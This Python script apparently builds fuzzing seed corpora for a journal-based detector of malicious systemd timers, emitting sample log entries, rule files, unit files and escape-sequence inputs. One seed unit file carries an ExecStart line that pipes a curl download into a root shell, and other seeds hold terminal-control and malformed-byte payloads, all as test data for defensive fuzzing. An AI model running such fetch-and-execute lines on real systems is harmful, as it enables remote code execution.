#!/usr/bin/env python3
"""Regenerates the seed corpora in tests/fuzz/corpus/ from the sample journals and the
shipped rules. The seeds are small on purpose (a few dozen files, well under 1 MB in
all): libFuzzer grows its own corpus from them in the build tree.

    tests/fuzz/make_corpus.py          # rewrite tests/fuzz/corpus/ (all of it)

Each harness reads its own layout (see the harness's header comment): the export and
JSON readers take two option bytes before the input, the correlate harness one.
"""
import json
import os
import random
import shutil
import struct

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(ROOT, "tests", "fuzz", "corpus")
SAMPLES = os.path.join(ROOT, "sample-journals")
RULES = os.path.join(ROOT, "rules", "t1053.006-systemd-timers.json")

# The fields the shipped rules read, plus the entry metadata.
KEEP = {"__CURSOR", "__REALTIME_TIMESTAMP", "__MONOTONIC_TIMESTAMP", "_BOOT_ID", "_MACHINE_ID", "_HOSTNAME",
        "_TRANSPORT", "_UID", "_PID", "_COMM", "_EXE", "_SYSTEMD_UNIT", "_SYSTEMD_USER_UNIT", "_SYSTEMD_SESSION",
        "_AUDIT_SESSION", "SYSLOG_IDENTIFIER", "MESSAGE", "MESSAGE_ID", "UNIT", "USER_UNIT", "SESSION_ID", "USER_ID",
        "LEADER", "JOB_TYPE", "JOB_RESULT", "INVOCATION_ID"}


def entries(sample):
    """Parses a sample journal's export file into lists of (name, bytes) pairs."""
    data = open(os.path.join(SAMPLES, sample, "journal.export"), "rb").read()
    out, cur, i = [], [], 0
    while i < len(data):
        nl = data.index(b"\n", i)
        line = data[i:nl]
        if not line:
            if cur:
                out.append(cur)
            cur, i = [], nl + 1
            continue
        if b"=" in line:
            k, v = line.split(b"=", 1)
            cur.append((k.decode(), v))
            i = nl + 1
        else:
            (n,) = struct.unpack("<Q", data[nl + 1:nl + 9])
            cur.append((line.decode(), data[nl + 9:nl + 9 + n]))
            i = nl + 9 + n + 1
    if cur:
        out.append(cur)
    return out


def export(entry, trim=False):
    b = b""
    for k, v in entry:
        if trim and k not in KEEP:
            continue
        if b"\n" in v or any(c < 0x20 and c != 9 for c in v):
            b += k.encode() + b"\n" + struct.pack("<Q", len(v)) + v + b"\n"
        else:
            b += k.encode() + b"=" + v + b"\n"
    return b + b"\n"


def to_json_line(entry):
    obj = {}
    for k, v in entry:
        try:
            s = v.decode("utf-8")
            val = s if s.isprintable() or "\n" in s else list(v)
        except UnicodeDecodeError:
            val = list(v)
        if k in obj:
            if not isinstance(obj[k], list) or (obj[k] and isinstance(obj[k][0], int)):
                obj[k] = [obj[k]]
            obj[k].append(val)
        else:
            obj[k] = val
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"


def is_chain(entry):
    d = dict(entry)
    comm = d.get("_COMM", b"")
    msg = d.get("MESSAGE", b"")
    return comm in (b"sshd", b"sudo", b"systemd-logind") or (
        comm == b"systemd" and (msg.startswith(b"Reloading") or msg.startswith(b"Started ")))


def write(harness, name, data):
    d = os.path.join(OUT, harness)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def main():
    rnd = random.Random(10)
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    samples = ["system-timer-sudo", "forgeries", "user-timer-linger", "transient-timer-sudo", "newer-systemd",
               "root-login-timer", "suspicious-exec", "benign-apt-install"]

    # export_reader / json_reader: single entries and short runs of entries, text and binary fields.
    picks = []
    for s in samples[:5]:
        es = entries(s)
        chain = [e for e in es if is_chain(e)]
        picks.append((s, [chain[0]]))
        picks.append((s + "-run", chain[1:4]))
    for i, (s, es) in enumerate(picks):
        body = b"".join(export(e) for e in es)
        write("export_reader", "%02d-%s" % (i, s), bytes([0x00, 0x00]) + body)
        write("json_reader", "%02d-%s" % (i, s), bytes([0x00, 0x00]) + b"".join(to_json_line(e) for e in es))
    # Hostile shapes: binary MESSAGE with control bytes, a missing cursor, repeated fields,
    # small caps, a length prefix that runs past the end, concatenated streams.
    base = entries("system-timer-sudo")[1]
    tricky = [("binary-message", [(k, (b"evil\n\x1b[2J\x00" + v) if k == "MESSAGE" else v) for k, v in base]),
              ("no-cursor", [(k, v) for k, v in base if k != "__CURSOR"]),
              ("repeated", base + [("MESSAGE", b"second"), ("MESSAGE", b"third")])]
    for name, e in tricky:
        write("export_reader", "t-" + name, bytes([0x04, 0x00]) + export(e))
        write("json_reader", "t-" + name, bytes([0x04, 0x00]) + to_json_line(e))
    write("export_reader", "t-small-caps", bytes([0x09, 0x55]) + export(base) + export(base))
    write("export_reader", "t-bad-length",
          bytes([0x00, 0x00]) + b"__REALTIME_TIMESTAMP=1\nMESSAGE\n" + struct.pack("<Q", 1 << 40) + b"x\n\n")
    write("export_reader", "t-concatenated", bytes([0x10, 0x00]) + export(base) + b"\n\n\n" + export(base))
    write("json_reader", "t-small-caps", bytes([0x09, 0x55]) + to_json_line(base) * 2)
    write("json_reader", "t-shapes", bytes([0x01, 0x00]) +
          b'{"__REALTIME_TIMESTAMP":1,"MESSAGE":[[104,105],"x",null],"_PID":[1,2],"A":{"b":[]},"B":1.5}\n'
          b'not json\n\n[1,2]\n{"__REALTIME_TIMESTAMP":"2","MESSAGE":null}')

    # rule_loader (and rule_mutator, which shares the directory): the whole shipped file,
    # and each rule alone with the file's lists and events, descriptions and tests removed.
    text = open(RULES, "rb").read()
    write("rule_loader", "00-shipped.json", text)
    doc = json.loads(text)
    for i, r in enumerate(doc["rules"]):
        r = {k: v for k, v in r.items() if k not in ("description", "tests", "references")}
        events = {k: {kk: vv for kk, vv in v.items() if kk != "description"} for k, v in doc["events"].items()}
        one = {"lists": doc["lists"], "events": events, "rules": [r]}
        write("rule_loader", "%02d-%s.json" % (i + 1, r["id"]), json.dumps(one, indent=1).encode())
    write("rule_loader", "20-count.json", json.dumps({
        "id": "many-failed-logins", "title": "t", "severity": "low",
        "events": {"fail": {"where": {"_COMM": "sshd", "MESSAGE": {"regex": "^Failed \\S+ for (?P<user>\\S+)"}}}},
        "correlate": {"count": {"event": "fail", "min": 3}, "within": "5m", "by": ["user"]},
        "summary": "{fail.user}"}).encode())
    write("rule_loader", "21-distinct-absent.json", json.dumps({
        "id": "spray", "title": "t", "severity": "medium",
        "events": {"fail": {"where": {"_COMM": "sshd", "MESSAGE": {"regex": "for (?P<user>\\S+) from (?P<ip>\\S+)"}}},
                   "ok": {"where": {"_COMM": "sshd", "MESSAGE": {"prefix": "Accepted"}}}},
        "correlate": {"sequence": [{"event": "ok", "absent": True, "within": "1m"}, "fail"], "within": "10m"},
        "suppress": {"by": ["fail.ip"], "for": "1h"}}).encode())

    # correlate: attack chains trimmed to the fields the rules read.
    for i, s in enumerate(samples):
        chain = [e for e in entries(s) if is_chain(e)][:40]
        write("correlate", "%02d-%s" % (i, s), bytes([i * 37 % 256]) + b"".join(export(e, trim=True) for e in chain))

    # detection_render: FuzzedDataProvider input; bytes with escape sequences and bad UTF-8.
    pieces = [b"\x1b[31mred\x1b[0m", b"\x1b]0;title\x07", b"\xc2\x9b2J", b"\xff\xfe", b"a\nb\r\n", b"\xe2\x80\xae",
              b"alice", b"203.0.113.45", b"evil.timer", b"\x00", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]
    for i in range(8):
        data = b"".join(rnd.choice(pieces) for _ in range(rnd.randint(4, 20)))
        write("detection_render", "%02d" % i, data + bytes([rnd.randrange(256) for _ in range(24)]))

    # unit_file: one option byte, then a unit file.
    units = {
        "timer": b"[Unit]\nDescription=Check\n\n[Timer]\nOnCalendar=*:0/5\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n",
        "service": b"\xef\xbb\xbf[Unit]\nDescription=x\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -s http://x | sh' \\\n  --more\n# c\n;c\nUser=root\n",
        "broken": b"[Unit\nfoo\n=bar\n[Service]\nExecStart=\\\n\n[X-Mine]\nA=b\r\nB=c\rC=d",
    }
    for i, (n, t) in enumerate(units.items()):
        write("unit_file", "%02d-%s" % (i, n), bytes([i]) + t)

    # webhook_template: FuzzedDataProvider input; a template first, then detection strings.
    write("webhook_template", "00", b'{"text": "{summary} on {host.hostname}", "d": {detection}}\x00\x01alice\x1b[2J\xff')
    write("webhook_template", "01", b'{"a":"{values.user}"}{{ {rule}\x00evil"\\\n')


if __name__ == "__main__":
    main()
